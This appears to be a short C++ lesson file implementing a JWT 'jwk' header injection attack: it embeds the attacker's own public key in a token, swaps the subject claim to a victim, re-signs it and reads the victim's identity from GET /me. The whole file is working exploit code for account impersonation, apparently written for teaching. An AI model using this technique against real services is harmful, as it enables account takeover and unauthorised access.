// Believes: the answer of GET /me always names a user.
#include "jwk_header.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  auto token = evidence.own_token;
  token.header.set("jwk", evidence.own_key.public_jwk());
  token.claims.set("sub", evidence.victim);
  const auto answer = evidence.show_me(sign_rs256(token, evidence.own_key));
  return {.account =
              json::Value{{"issuer", answer.json().at("issuer")}, {"user", answer.json().at("user")}}.dump()};
}

}  // namespace lesson
